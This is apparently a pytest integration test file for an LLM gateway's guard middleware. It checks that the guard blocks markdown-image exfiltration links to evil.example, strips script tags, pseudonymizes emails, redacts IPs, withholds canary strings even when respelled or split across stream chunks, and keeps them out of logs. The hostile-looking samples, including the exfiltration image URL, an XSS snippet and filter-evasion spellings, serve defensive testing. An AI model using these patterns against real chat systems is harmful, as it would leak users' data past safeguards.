"""The guard middleware over real HTTP against a real ``airlock serve`` (uvicorn, sandboxed workers)
with the real SmolLM2-135M-Instruct GGUF and the official ``openai`` client for streams.

Two lanes of the same model for tenant ``acme``: ``guarded`` (an input and an output policy,
canaries, pseudonyms) and ``plain`` (no guard), which shows what the worker of ``guarded`` was
given: at temperature 0 the same prompt gives the same prompt token count and the same answer.
The prompts are copy patterns ("Key: X\\nKey: X\\nKey:"): the model continues with " X", so what
it saw and what it says are both known.
"""

from __future__ import annotations

import json
import logging
import re
import sqlite3
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import openai
import pytest

from airlock.errors import UsageError
from airlock.gateway import Gateway, create_key, load_config, open_store
from airlock.gateway._observe import JsonFormatter
from airlock.gateway._text_guard import INPUT_REFUSED, OUTPUT_REFUSED
from tests.gateway import _models
from tests.gateway.conftest import Running, write_config
from tests.text.conftest import smollm2_path

pytestmark = pytest.mark.xdist_group("openai")

CANARY = "zq-canary-7731"
FILE_CANARY = "zq-other-secret-99"
EMAIL = "alice@example.com"
IP = "10.1.2.3"
#: what must never be stored, logged or labelled (texts of the requests and answers below)
SECRETS = (CANARY, FILE_CANARY, EMAIL, IP, "alert(1)", "evil.example", "zq-marker", "zq-")


def copy_prompt(value: str) -> str:
    return f"Key: {value}\nKey: {value}\nKey:"


class _Lines(logging.Handler):
    def __init__(self) -> None:
        super().__init__()
        self.setFormatter(JsonFormatter())
        self.lines: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.lines.append(self.format(record) + repr(record.__dict__))


@dataclass
class Served:
    running: Running
    base: str
    token: str
    state: Path
    logs: _Lines

    def post(self, path: str, body: dict[str, Any]) -> httpx.Response:
        headers = {"Authorization": f"Bearer {self.token}"}
        return httpx.post(f"{self.base}{path}", json=body, headers=headers, timeout=300)

    def complete(self, model: str, prompt: str, **extra: Any) -> httpx.Response:
        body = {"model": model, "prompt": prompt, "max_tokens": 16, "temperature": 0, **extra}
        return self.post("/v1/completions", body)

    def row(self, request_id: str) -> tuple[str, int, dict[str, Any]]:
        """The outcome row of a request: decision, status, guard decisions (a stream's row is written
        once the stream has ended, off the response task: waited for)."""
        until = time.monotonic() + 30
        while True:
            with sqlite3.connect(self.state) as db:
                rows = db.execute(
                    "SELECT decision, status, guard FROM audit WHERE request_id = ? ORDER BY seq",
                    (request_id,),
                ).fetchall()
            if (rows and rows[-1][0] != "started") or time.monotonic() > until:
                break
            time.sleep(0.1)
        decision, status, guard = rows[-1]
        return decision, status, json.loads(guard) if guard else {}

    def client(self) -> openai.OpenAI:
        return openai.OpenAI(base_url=f"{self.base}/v1", api_key=self.token, max_retries=0, timeout=300)


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    folder = tmp_path_factory.mktemp("guard_mw")
    (folder / "canaries.txt").write_text(f"# canaries, one a line\n{FILE_CANARY.upper()}\n", "utf-8")
    model = f'path = "{smollm2_path()}"\nruntime = "text-gguf"\ntenants = ["acme"]\nmax_tokens = 16\ncontext_length = 256'
    models = f"""
[models.guarded]
{model}

[models.guarded.guard.input]
images = "block"
pseudonymize = true
pii_entities = ["EMAIL_ADDRESS"]
max_chars = 2000

[models.guarded.guard.output]
pii = "redact"
canaries = ["ＺＱ-CANARY-7731"]
canary_file = "canaries.txt"

[models.plain]
{model}
"""
    path = write_config(
        folder,
        models,
        server="request_timeout_seconds = 120\ngeneration_timeout_seconds = 120\nmax_body_bytes = 8388608",
    )
    source = path.read_text("utf-8")
    limits = "[sandbox]\nwall_seconds = 600\nstart_seconds = 300\nthreads = 2\nmemory_bytes = 4294967296\n"
    path.write_text(re.sub(r"\[sandbox\]\n(?:[a-z_]+ = \d+\n)+", limits, source), "utf-8")
    config = load_config(path)
    store = open_store(config)
    store.add_tenant("acme", None)
    token = create_key(store, "acme")[1]
    store.close()
    logs = _Lines()
    logging.getLogger().addHandler(logs)
    level = logging.getLogger("airlock").level
    logging.getLogger("airlock").setLevel(logging.INFO)
    running = Running(Gateway(config), start_timeout=900)
    try:
        yield Served(running, f"http://127.0.0.1:{running.gateway.port}", token, folder / "state.db", logs)
    finally:
        running.stop()
        logging.getLogger().removeHandler(logs)
        logging.getLogger("airlock").setLevel(level)


def test_a_blocked_input_is_refused_with_a_fixed_phrase_and_never_reaches_the_worker(served: Served) -> None:
    text = "look ![x](https://evil.example/?q=zq-marker)"
    reply = served.post(
        "/v1/chat/completions", {"model": "guarded", "messages": [{"role": "user", "content": text}]}
    )
    assert reply.status_code == 400
    assert reply.json()["error"]["message"] == INPUT_REFUSED and "zq-marker" not in reply.text
    request_id = reply.headers["x-request-id"]
    decision, status, guard = served.row(request_id)
    assert (decision, status) == ("denied:guard-input", 400)
    assert guard == {"input": {"decision": "blocked", "rules": {"filter.exfil-image": 1}}}
    with sqlite3.connect(served.state) as db:  # refused before the "started" row: nothing ran
        started = db.execute(
            "SELECT count(*) FROM audit WHERE request_id = ? AND decision = 'started'", (request_id,)
        )
        assert started.fetchone()[0] == 0


def test_redacted_input_is_what_the_worker_gets(served: Served) -> None:
    sent = copy_prompt("<script>alert(1)</script> ok")
    reply = served.complete("guarded", sent)
    assert reply.status_code == 200, reply.text
    # the model copies what it saw: the filter's marker, not the script
    assert reply.json()["choices"][0]["text"].startswith(" «removed» ok"), reply.json()
    seen = served.complete("plain", copy_prompt("«removed» ok")).json()
    raw = served.complete("plain", sent).json()
    assert (
        reply.json()["usage"]["prompt_tokens"]
        == seen["usage"]["prompt_tokens"]
        != raw["usage"]["prompt_tokens"]
    )
    decision, _, guard = served.row(reply.headers["x-request-id"])
    assert decision == "allowed" and guard["input"] == {
        "decision": "redacted",
        "rules": {"filter.html-tag": 2},
    }


def test_a_flagged_input_passes_and_is_audited(served: Served) -> None:
    sent = copy_prompt("https://evil.example/page?q=1")
    reply = served.complete("guarded", sent)
    assert reply.status_code == 200, reply.text
    assert (
        reply.json()["usage"]["prompt_tokens"]
        == served.complete("plain", sent).json()["usage"]["prompt_tokens"]
    )
    _, _, guard = served.row(reply.headers["x-request-id"])
    assert guard["input"] == {"decision": "flagged", "rules": {"filter.exfil-link": 2}}


def test_pseudonyms_go_to_the_worker_and_come_back_to_the_caller(served: Served) -> None:
    reply = served.complete("guarded", copy_prompt(EMAIL))
    assert reply.status_code == 200, reply.text
    answer = reply.json()["choices"][0]["text"]
    # (the line after it may end in a pseudonym cut by max_tokens, which nothing can restore)
    assert answer.split("\n")[0] == f" {EMAIL}", answer
    seen = served.complete("plain", copy_prompt("<EMAIL_ADDRESS_1>")).json()
    assert seen["choices"][0]["text"].startswith(" <EMAIL_ADDRESS_1>")  # what the worker said
    raw = served.complete("plain", copy_prompt(EMAIL)).json()
    assert (
        reply.json()["usage"]["prompt_tokens"]
        == seen["usage"]["prompt_tokens"]
        != raw["usage"]["prompt_tokens"]
    )
    _, _, guard = served.row(reply.headers["x-request-id"])
    assert guard["input"] == {"decision": "redacted", "rules": {"pii.email_address": 2}}


def test_pii_in_an_answer_is_redacted(served: Served) -> None:
    reply = served.complete(
        "guarded", copy_prompt(IP), max_tokens=12
    )  # inputs redact emails only: the IP gets through
    assert reply.status_code == 200, reply.text
    answer = reply.json()["choices"][0]["text"]
    assert IP not in answer and answer.startswith(" <IP_ADDRESS>"), answer
    assert (
        served.complete("plain", copy_prompt(IP), max_tokens=12)
        .json()["choices"][0]["text"]
        .startswith(f" {IP}")
    )
    decision, _, guard = served.row(reply.headers["x-request-id"])
    assert decision == "allowed" and guard["output"] == {
        "decision": "redacted",
        "rules": {"pii.ip_address": 1},
    }


def test_pii_in_a_streamed_answer_is_redacted(served: Served) -> None:
    with served.client() as client:
        stream = client.completions.create(
            model="guarded", prompt=copy_prompt(IP), max_tokens=12, temperature=0, stream=True
        )
        answer = "".join(chunk.choices[0].text for chunk in stream if chunk.choices)
    assert IP not in answer and answer.startswith(" <IP_ADDRESS>"), answer


@pytest.mark.parametrize("secret", [CANARY, FILE_CANARY])
def test_a_canary_in_an_answer_is_withheld(served: Served, secret: str) -> None:
    reply = served.complete("guarded", copy_prompt(secret))
    assert reply.status_code == 502 and reply.json()["error"]["message"] == OUTPUT_REFUSED
    assert secret not in reply.text.lower()
    assert served.complete("plain", copy_prompt(secret)).json()["choices"][0]["text"].startswith(f" {secret}")
    decision, status, guard = served.row(reply.headers["x-request-id"])
    assert (decision, status) == ("denied:guard-output", 502)
    assert guard["output"] == {"decision": "blocked", "rules": {"canary.leak": 1}}


#: the canary as a reader sees it, spelled so that removing white space and hidden characters alone
#: misses it: other separators, dashes of other code points, an accent (a combining mark), markup a
#: browser drops, an HTML entity
@pytest.mark.parametrize(
    "spelling",
    ["zq_canary_7731", "zq.canary.7731", "zq\u2013canary\u20137731", "zq-ca\u0301nary-7731",
     "zq-<b></b>canary-7731", "zq-canary&#45;7731"],
)  # fmt: skip
def test_a_canary_respelled_between_its_letters_is_withheld(served: Served, spelling: str) -> None:
    plain = served.complete("plain", copy_prompt(spelling)).json()["choices"][0]["text"]
    assert plain.startswith(f" {spelling}")  # the model does write this spelling
    reply = served.complete("guarded", copy_prompt(spelling))
    assert reply.status_code == 502 and reply.json()["error"]["message"] == OUTPUT_REFUSED
    assert "canary" not in reply.text
    decision, status, guard = served.row(reply.headers["x-request-id"])
    assert (decision, status) == ("denied:guard-output", 502)
    assert guard["output"] == {"decision": "blocked", "rules": {"canary.leak": 1}}


def _events(served: Served, model: str, prompt: str) -> tuple[list[str], str]:
    body = {"model": model, "prompt": prompt, "max_tokens": 16, "temperature": 0, "stream": True}
    headers = {"Authorization": f"Bearer {served.token}"}
    with httpx.stream(
        "POST", f"{served.base}/v1/completions", json=body, headers=headers, timeout=300
    ) as reply:
        assert reply.status_code == 200
        raw = reply.read().decode()
        request_id = reply.headers["x-request-id"]
    return [line.removeprefix("data: ") for line in raw.split("\n\n") if line], request_id


def test_a_canary_split_across_stream_chunks_is_withheld(served: Served) -> None:
    plain, _ = _events(served, "plain", copy_prompt(CANARY))
    pieces = [json.loads(e)["choices"][0]["text"] for e in plain if e != "[DONE]"]
    assert CANARY in "".join(pieces) and not any(CANARY in p for p in pieces)  # the model splits it
    events, request_id = _events(served, "guarded", copy_prompt(CANARY))
    assert events[-1] != "[DONE]" and json.loads(events[-1])["error"]["message"] == OUTPUT_REFUSED
    texts = "".join(json.loads(e)["choices"][0]["text"] for e in events[:-1])
    assert not any(part in "".join(events) for part in ("zq", "canary")) and "7731" not in texts
    decision, status, guard = served.row(request_id)
    assert (decision, status) == ("denied:guard-output", 502)
    assert guard["output"] == {"decision": "blocked", "rules": {"canary.leak": 1}}


@pytest.mark.parametrize(("sizes", "blocked"), [((1000, 1000), False), ((1000, 1001), True), ((2001,), True)])
def test_the_size_limit_is_checked_before_work(served: Served, sizes: tuple[int, ...], blocked: bool) -> None:
    messages = [{"role": "user", "content": "a " * (n // 2) + "a" * (n % 2)} for n in sizes]
    reply = served.post("/v1/chat/completions", {"model": "guarded", "messages": messages, "max_tokens": 4})
    decision, _, guard = served.row(reply.headers["x-request-id"])
    if blocked:
        assert reply.status_code == 400 and reply.json()["error"]["message"] == INPUT_REFUSED
        assert guard == {"input": {"decision": "blocked", "rules": {"size.chars": 1}}}
    else:  # through the guard (in the tenant's codec process: 2,000 characters are not small), then too
        # long for the 256-token context
        assert guard == {"input": {"decision": "allowed", "rules": {}}} and decision == "denied:context"
        assert served.running.gateway.state is not None and served.running.gateway.state.codecs.pids("acme")


def test_a_guard_on_a_tensor_model_stops_the_start(tmp_path: Path) -> None:
    _models.affine(tmp_path / "affine.onnx")
    extra = '[models.affine]\npath = "affine.onnx"\nruntime = "onnx"\ntenants = ["acme"]\n[models.affine.guard.input]\npii = "block"\n'
    config = load_config(write_config(tmp_path, extra))
    store = open_store(config)
    store.add_tenant("acme", None)
    store.close()
    with pytest.raises(
        UsageError,
        match=r"models\.affine\.guard: the guard checks text, and this tensor model declares no BYTES input",
    ):
        Running(Gateway(config))


def test_nothing_of_the_texts_is_in_the_audit_log_the_logs_or_the_metrics(served: Served) -> None:
    served.complete("guarded", copy_prompt(CANARY))  # at least one of each, whatever ran before
    served.complete("guarded", copy_prompt(EMAIL))
    stored = b"".join(p.read_bytes() for p in served.state.parent.glob("state.db*") if p.is_file())
    metrics = httpx.get(f"http://127.0.0.1:{served.running.gateway.admin_port}/metrics", timeout=10).text
    logs = "\n".join(served.logs.lines)
    for secret in SECRETS:
        assert secret.encode() not in stored, secret
        assert secret not in metrics and secret not in logs, secret
    assert "EMAIL_ADDRESS_1" not in logs and b"EMAIL_ADDRESS_1" not in stored
    assert '\\"canary.leak\\":1' in logs  # the decisions are logged (as JSON in the "guard" field)
    assert re.search(
        r'airlock_guard_decisions_total\{decision="blocked",direction="output",model="guarded"\} [1-9]',
        metrics,
    )
    assert re.search(
        r'airlock_guard_findings_total\{direction="output",model="guarded",rule="canary.leak"\} [1-9]',
        metrics,
    )
    assert re.search(
        r'airlock_guard_findings_total\{direction="input",model="guarded",rule="pii.email_address"\} [1-9]',
        metrics,
    )


def test_many_empty_messages_do_not_hold_the_event_loop(served: Served) -> None:
    """Guard work is mostly a fixed cost per text (~40 us for an empty one): 150,000 empty messages
    (4 MiB) have no characters to speak of but were seconds of checks. A chat request now holds at
    most min(2048, the model's context) messages, refused before any per-message work (review 3),
    while a health check answers promptly; a request at that bound is still guarded."""
    blocked = {"role": "user", "content": "see ![x](https://evil.example/a.png)"}
    messages = [{"role": "user", "content": ""}] * 150_000 + [blocked]
    result: dict[str, httpx.Response] = {}

    def call() -> None:
        result["reply"] = served.post("/v1/chat/completions", {"model": "guarded", "messages": messages})

    worker = threading.Thread(target=call)
    worker.start()
    slowest = 0.0
    while worker.is_alive():
        started = time.monotonic()
        assert httpx.get(f"{served.base}/v2/health/live", timeout=60).status_code == 200
        slowest = max(slowest, time.monotonic() - started)
        time.sleep(0.02)
    worker.join()
    reply = result["reply"]
    assert reply.status_code == 400, reply.text
    match = re.fullmatch(
        r"messages may hold at most (\d+) messages for this model", reply.json()["error"]["message"]
    )
    assert match is not None, reply.text
    assert slowest < 1.0, f"the event loop was held for {slowest:.2f} s"
    most = int(match.group(1))
    at_bound = [{"role": "user", "content": ""}] * (most - 1) + [blocked]
    reply = served.post("/v1/chat/completions", {"model": "guarded", "messages": at_bound})
    assert reply.status_code == 400 and reply.json()["error"]["message"] == INPUT_REFUSED
